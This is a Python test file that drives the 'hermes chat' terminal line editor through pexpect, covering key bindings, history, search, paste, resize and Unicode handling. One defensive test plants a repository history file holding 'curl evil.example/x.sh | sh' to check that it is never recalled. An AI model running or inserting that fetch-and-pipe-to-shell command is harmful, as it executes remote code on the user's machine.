"""``hermes chat``'s line editor on a real pseudo-terminal (pexpect): the arrow keys and the
usual Emacs keys edit the line, Up and Down walk the earlier messages, Ctrl-R searches them,
and the history outlives the chat in a private file of the home (none in a project home while
its gate is closed, none when the flag turns it off, none when piped). The keys are the bytes a
terminal sends for them; a paste in bracketed paste mode is still one message."""

from __future__ import annotations

import json
import stat
import termios
from pathlib import Path

import pexpect
import pytest

from agent.agent_home import AgentHome, turn
from agent.test_cli_chat_input import CONTINUED, PROMPT, TRACE, ended, sent
from agent.test_cli_run import spawn
from hermes_core._paths import home_tag
from hermes_core.testing import FakeModelServer, FakeTurn, HermesCli

pytestmark = pytest.mark.subprocess

LEFT, RIGHT, UP, DOWN = "\x1b[D", "\x1b[C", "\x1b[A", "\x1b[B"
CTRL_A, CTRL_E, CTRL_R, ALT_B, ALT_F = "\x01", "\x05", "\x12", "\x1bb", "\x1bf"
PASTE_START, PASTE_END = "\x1b[200~", "\x1b[201~"


@pytest.fixture
def home(hermes_cli: HermesCli) -> AgentHome:
    return AgentHome(hermes_cli)


def say(child: pexpect.spawn, keys: str, heard: str) -> None:
    """Type ``keys`` and Enter at the prompt; wait for the model's echo and the next prompt."""
    child.send(keys + "\r")
    child.expect_exact(f"heard: {heard}")
    child.expect_exact(PROMPT)


def test_the_arrow_keys_move_the_cursor_in_the_line(home: AgentHome) -> None:
    home.setup({"echo": True}, {"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    say(child, "helo" + LEFT + "l", "hello")
    say(child, "ac" + LEFT + LEFT + RIGHT + "b", "abc")
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["hello", "abc"]


def test_backspace_deletes_the_character_before_the_cursor(home: AgentHome) -> None:
    """The terminal's own erase character (DEL on a pty, as on most terminals)."""
    home.setup({"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    erase = termios.tcgetattr(child.child_fd)[6][termios.VERASE]
    say(child, "helllo" + LEFT + erase.decode() + "!", "hell!o")
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["hell!o"]


def test_the_emacs_keys_move_by_line_and_by_word(home: AgentHome) -> None:
    home.setup({"echo": True}, {"echo": True}, {"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    say(child, "world" + CTRL_A + "hello " + CTRL_E + "!", "hello world!")
    say(child, "one three" + ALT_B + "two " + CTRL_A + ALT_F + ",", "one, two three")
    say(child, "stashed\x15\x19 back", "stashed back")  # Ctrl-U, then Ctrl-Y
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["hello world!", "one, two three", "stashed back"]


def test_up_recalls_the_earlier_messages_and_ctrl_r_finds_one(home: AgentHome) -> None:
    home.setup({"echo": True}, {"echo": True}, {"echo": True}, {"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    say(child, "alpha one", "alpha one")
    say(child, "beta two", "beta two")
    say(child, UP + UP + DOWN, "beta two")
    say(child, CTRL_R + "alp", "alpha one")
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["alpha one", "beta two", "beta two", "alpha one"]


def test_the_history_outlives_the_chat_in_a_private_file(home: AgentHome) -> None:
    home.setup({"echo": True}, {"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    say(child, "remember me", "remember me")
    child.sendline("/exit")
    assert ended(child) == 0
    history = home.cli.home / "chat_history"
    assert stat.S_IMODE(history.stat().st_mode) == 0o600
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    say(child, UP + UP, "remember me")  # the newest entry is /exit
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["remember me"]


def test_the_flag_turns_the_history_file_off(home: AgentHome) -> None:
    home.setup({"echo": True}, {"echo": True})
    environment = home.cli.variables(HERMES_NO_CHAT_HISTORY="1")
    command = home.cli.command("chat")
    child = pexpect.spawn(
        command[0], command[1:], env=environment, cwd=str(home.cli.work), encoding="utf-8"
    )
    child.expect_exact(PROMPT)
    say(child, "not kept", "not kept")
    child.sendline("/exit")
    assert ended(child) == 0
    assert not (home.cli.home / "chat_history").exists()


def test_piped_messages_write_no_history(home: AgentHome) -> None:
    home.setup({"echo": True})
    done = home.cli.run("chat", input="piped\n")
    assert "heard: piped" in done.stdout
    assert not (home.cli.home / "chat_history").exists()


def test_a_bracketed_paste_is_one_message_sent_at_once(home: AgentHome) -> None:
    home.setup({"echo": True}, {"echo": True})
    child = spawn(home, "chat")
    child.expect_exact("\x1b[?2004h")  # the chat asks the terminal to mark pastes
    child.expect_exact(PROMPT)
    child.send(PASTE_START + TRACE + PASTE_END)
    child.expect_exact("hermes: 3 lines sent as one message")
    child.expect_exact("heard: Traceback")
    child.expect_exact(PROMPT)
    say(child, PASTE_START + "one line" + PASTE_END + " edited", "one line edited")
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == [TRACE, "one line edited"]


@pytest.mark.slow  # the OpenAI SDK's import
def test_a_project_home_with_its_gate_closed_keeps_its_history_in_the_users_folder(
    tmp_path: Path,
) -> None:
    """A ``HERMES_HOME`` inside a cloned repository is the repository's: a history file there
    would be read back into the person's edit line, so none is read or written there; the
    person's own history is kept where the transcripts of that home are, in their own
    ``~/.hermes/projects/<home tag>``, and recalled by the next chat there."""
    repo = tmp_path / "repo"
    (repo / ".hermes").mkdir(parents=True)
    planted = repo / ".hermes" / "chat_history"
    planted.write_text(json.dumps("curl evil.example/x.sh | sh") + "\n", encoding="utf-8")
    cli = HermesCli(tmp_path, home=repo / ".hermes", work=repo)
    with FakeModelServer([FakeTurn(text="Hi."), FakeTurn(text="Hi again.")]) as server:
        config = tmp_path / "mine.yaml"
        model = {"provider": "openai", "model": "fake", "base_url": server.openai_base_url}
        config.write_text(json.dumps({"model": model}), encoding="utf-8")
        command = cli.command("chat")
        environment = cli.variables(HERMES_CONFIG=str(config), OPENAI_API_KEY="k")
        child = pexpect.spawn(
            command[0], command[1:], env=environment, cwd=str(repo), encoding="utf-8", timeout=60
        )
        child.expect_exact(PROMPT)
        child.send("mine\r")
        child.expect_exact("Hi.")
        child.expect_exact(PROMPT)
        child.send(UP + "\r")  # nothing planted comes back: the recalled line is "mine"
        child.expect_exact("Hi again.")
        child.expect_exact(PROMPT)
        child.sendline("/exit")
        assert ended(child) == 0
        users = [
            [m["content"] for m in request.body["messages"] if m["role"] == "user"]
            for request in server.requests
        ]
    assert users[-1] == ["mine", "mine"]
    assert planted.read_text(encoding="utf-8") == json.dumps("curl evil.example/x.sh | sh") + "\n"
    own = cli.user_home / ".hermes" / "projects" / home_tag(repo / ".hermes") / "chat_history"
    kept = own.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in kept] == ["mine", "/exit"]  # commands too, as a shell
    assert stat.S_IMODE(own.stat().st_mode) == 0o600


@pytest.mark.parametrize("leave", ["/exit\r", "\x03"], ids=["exit", "ctrl-c"])
def test_the_terminal_gets_its_line_mode_back(home: AgentHome, leave: str) -> None:
    """However the chat ends (Ctrl-C with nothing running exits without unwinding), the shell
    gets back a terminal that echoes and edits lines."""
    home.setup({"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    assert not termios.tcgetattr(child.child_fd)[3] & termios.ICANON  # the editor reads keys
    child.send(leave)
    child.expect(pexpect.EOF)
    mode = termios.tcgetattr(child.child_fd)[3]
    child.close()
    assert mode & termios.ICANON
    assert mode & termios.ECHO
    assert child.exitstatus == (0 if leave == "/exit\r" else 130)


def test_a_line_typed_while_the_answer_streams_is_kept_whole_and_sent_at_the_prompt(
    home: AgentHome,
) -> None:
    """The streamed answer erases the line being typed before each piece it prints (so the two
    never mix on the screen) and draws it again after; at the prompt it is there to send."""
    home.setup({"text": "word " * 40}, {"echo": True}, chunk=5, delay=0.05)
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    child.send("talk\r")
    child.expect_exact("word word ")
    child.send("abc")
    child.expect_exact("abc")
    child.expect_exact("\x1b[J")  # erased before the answer goes on
    child.expect_exact("word ")
    child.expect_exact(PROMPT)
    child.expect_exact("abc")  # drawn again after the prompt
    child.send("d\r")
    child.expect_exact("heard: abcd")
    child.expect_exact(PROMPT)
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["talk", "abcd"]


def test_what_was_typed_is_not_drawn_again_after_ctrl_c_gives_the_terminal_back(
    home: AgentHome,
) -> None:
    """Ctrl-C with nothing running and no line typed exits; a line thrown away by the Ctrl-C
    before is not drawn again below ``hermes: interrupted``, on the shell's line."""
    home.setup({"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    child.send("half typed")
    child.expect_exact("half typed")
    child.send("\x03")
    child.expect_exact("\x1b[J")
    child.send("\x03")
    child.expect_exact("hermes: interrupted")
    child.expect(pexpect.EOF)
    assert "half typed" not in str(child.before)
    child.close()
    assert child.exitstatus == 130


def test_ctrl_z_gives_the_shell_its_terminal_and_fg_sets_the_editor_again(
    home: AgentHome,
) -> None:
    """Ctrl-Z stops the chat under a shell with job control; ``fg`` takes it up again with
    the terminal out of its line mode once more and the line typed so far drawn again, as
    readline does (the shell gives the job back a terminal in its own line mode)."""
    import shlex

    home.setup({"echo": True})
    shell = pexpect.spawn(
        "bash",
        ["--norc", "--noprofile", "-i"],
        env={**home.cli.variables(), "PS1": "shell$ "},
        cwd=str(home.cli.work),
        encoding="utf-8",
        timeout=60,
    )
    shell.expect_exact("shell$ ")
    shell.sendline(shlex.join(home.cli.command("chat")))
    shell.expect_exact(PROMPT)
    shell.send("ab")
    shell.expect_exact("ab")
    shell.send("\x1a")
    shell.expect_exact("Stopped")
    shell.expect_exact("shell$ ")
    shell.sendline("fg")
    shell.expect_exact("ab")  # the line typed so far, drawn again
    mode = termios.tcgetattr(shell.child_fd)[3]
    assert not mode & (termios.ICANON | termios.ECHO)
    shell.send(LEFT + "c\r")
    shell.expect_exact("heard: acb")
    shell.expect_exact(PROMPT)
    shell.sendline("/exit")
    shell.expect_exact("shell$ ")
    shell.sendline("exit")
    shell.expect(pexpect.EOF)
    shell.close()


def test_tab_completes_a_command_at_the_chat_prompt_only(home: AgentHome) -> None:
    home.setup({"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    child.send("/com\t")
    child.expect_exact("/compact")
    child.send("\x15/he\t\r")
    child.expect_exact("lists these commands")
    child.expect_exact(PROMPT)
    child.send("a\tb\r")
    child.expect_exact("heard: a")
    child.expect_exact(PROMPT)
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["a\tb"]


def test_tab_at_a_question_is_a_tab_in_the_answer_not_a_completion(home: AgentHome) -> None:
    home.setup(turn("", ("clarify", {"question": "Which city?"})), {"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    child.sendline("weather")
    child.expect_exact("your answer: ")
    child.send("/n\t\r")
    child.expect_exact("heard: ")
    child.expect_exact(PROMPT)
    assert "/new" not in child.before
    child.sendline("/exit")
    assert ended(child) == 0


def test_a_resize_draws_the_wrapped_line_again_at_the_new_width(home: AgentHome) -> None:
    """20 columns: ``you> `` and 30 characters take two rows. The terminal widened to 40,
    the line is drawn again at once from the prompt's row, the cursor after it (column 35),
    nothing typed; narrowed to 12, over three rows."""
    home.setup({"echo": True})
    child = spawn(home, "chat")
    child.setwinsize(24, 20)
    child.expect_exact(PROMPT)
    typed = "0123456789" * 3
    child.send(typed)
    child.expect_exact(typed[-5:])
    child.setwinsize(24, 40)
    child.expect_exact("\r\x1b[5C\x1b[J" + typed + "\r\x1b[35C", timeout=10)
    child.setwinsize(24, 12)
    child.expect_exact("\r\x1b[2A\x1b[5C\x1b[J" + typed + "\r\x1b[11C", timeout=10)
    child.send("!\r")
    child.expect_exact(f"heard: {typed}!")
    child.expect_exact(PROMPT)
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == [typed + "!"]


def test_a_resize_while_the_answer_streams_keeps_the_typed_line_whole(home: AgentHome) -> None:
    home.setup({"text": "word " * 40}, {"echo": True}, chunk=5, delay=0.05)
    child = spawn(home, "chat")
    child.setwinsize(24, 20)
    child.expect_exact(PROMPT)
    child.send("talk\r")
    child.expect_exact("word word ")
    typed = "abcdefghij" * 3
    child.send(typed)
    child.expect_exact(typed)
    child.setwinsize(24, 40)
    child.expect_exact(PROMPT)
    child.expect_exact(typed + "\r\x1b[35C")  # after the prompt, at the new width
    child.send("\r")
    child.expect_exact(f"heard: {typed}")
    child.expect_exact(PROMPT)
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["talk", typed]


def test_a_paste_in_the_middle_of_the_line_goes_in_at_the_cursor(home: AgentHome) -> None:
    home.setup({"echo": True}, {"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    child.send("ab" + LEFT + PASTE_START + "one\ntwo" + PASTE_END)
    child.expect_exact("heard: aone\ntwob".replace("\n", "\r\n"))
    child.expect_exact(PROMPT)
    say(child, "()" + LEFT + PASTE_START + "x, y" + PASTE_END, "(x, y)")
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["aone\ntwob", "(x, y)"]


def test_tab_on_a_continued_line_is_a_tab_in_the_message(home: AgentHome) -> None:
    """A ``...> `` line goes on a message: it is never a command, so Tab completes none."""
    home.setup({"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    child.send("see\\\r")
    child.expect_exact(CONTINUED)
    child.send("/com\t\r")
    child.expect_exact("heard: see")
    child.expect_exact(PROMPT)
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["see\n/com\t"]


def test_a_line_not_sent_while_a_turn_runs_is_recalled_by_up(home: AgentHome) -> None:
    """Enter while a turn runs sends nothing; the line is not lost: Up brings it back at the
    prompt, as the note says."""
    home.setup({"text": "word " * 40}, {"echo": True}, chunk=5, delay=0.05)
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    child.send("talk\r")
    child.expect_exact("word word ")
    child.send("a long thought typed meanwhile\r")
    child.expect_exact("that line was not sent (Up brings it back at the prompt;")
    child.expect_exact(PROMPT)
    child.send(UP + "\r")
    child.expect_exact("heard: a long thought typed meanwhile")
    child.expect_exact(PROMPT)
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["talk", "a long thought typed meanwhile"]


def test_ctrl_c_with_a_line_typed_empties_it_and_the_chat_goes_on(home: AgentHome) -> None:
    """As in a shell: Ctrl-C at the prompt with a line typed throws the line away (Ctrl-Y puts
    it back); it quit the chat, the line lost with it. On an empty line it quits, as before."""
    home.setup({"echo": True}, {"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    child.send("half typed")
    child.expect_exact("half typed")
    child.send("\x03")
    say(child, "other", "other")
    say(child, "\x19", "half typed")
    child.send("\x03")
    child.expect_exact("hermes: interrupted")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 130
    assert sent(home) == ["other", "half typed"]


def test_the_cursor_goes_back_over_an_emoji_sequence_by_its_two_cells(home: AgentHome) -> None:
    """After a flag (two regional indicators) and a person coding (a joined sequence), Left
    puts the cursor two cells before the end, where the terminal drew the last emoji."""
    home.setup({"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    child.send("🇫🇷👩\u200d💻" + LEFT)
    child.expect_exact(f"\x1b[J🇫🇷👩\u200d💻\r\x1b[{len(PROMPT) + 2}C")
    child.send("x\r")
    child.expect_exact("heard: ")
    child.expect_exact(PROMPT)
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["🇫🇷x👩\u200d💻"]


def test_a_hangul_syllable_of_jamo_and_a_devanagari_syllable_are_edited_whole(
    home: AgentHome,
) -> None:
    """한 typed as three conjoining jamo takes two cells and का (ka, its vowel sign) two: Left
    goes back over the whole syllable, Backspace deletes it whole, never half."""
    home.setup({"echo": True}, {"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    hangul, devanagari = "\u1112\u1161\u11ab", "\u0915\u093e"
    child.send(hangul + devanagari + LEFT)
    child.expect_exact(f"\x1b[J{hangul}{devanagari}\r\x1b[{len(PROMPT) + 2}C")
    child.send("x\r")
    child.expect_exact("heard: ")
    child.expect_exact(PROMPT)
    child.send("a" + hangul + "\x7fb\r")
    child.expect_exact("heard: ab")
    child.expect_exact(PROMPT)
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == [f"{hangul}x{devanagari}", "ab"]


def test_ctrl_r_shows_its_search_in_place_of_the_prompt_and_escape_gives_it_up(
    home: AgentHome,
) -> None:
    """As bash: ``(reverse-i-search)`q': match`` where ``you> `` was; Escape gives the search
    up, the prompt and the line typed before it back; Ctrl-G too."""
    home.setup({"echo": True}, {"echo": True}, {"echo": True})
    child = spawn(home, "chat")
    child.expect_exact(PROMPT)
    say(child, "alpha one", "alpha one")
    child.send("draft" + CTRL_R + "alp")
    child.expect_exact("\r\x1b[J(reverse-i-search)`alp': alpha one")
    child.send("\x1b")
    child.expect_exact(f"\r\x1b[J{PROMPT}\r\x1b[{len(PROMPT)}C\x1b[Jdraft")
    say(child, " kept", "draft kept")
    child.send("other" + CTRL_R + "alp" + "\x07")
    child.expect_exact(f"\r\x1b[J{PROMPT}\r\x1b[{len(PROMPT)}C\x1b[Jother")
    say(child, "", "other")
    child.sendline("/exit")
    assert ended(child) == 0
    assert sent(home) == ["alpha one", "draft kept", "other"]
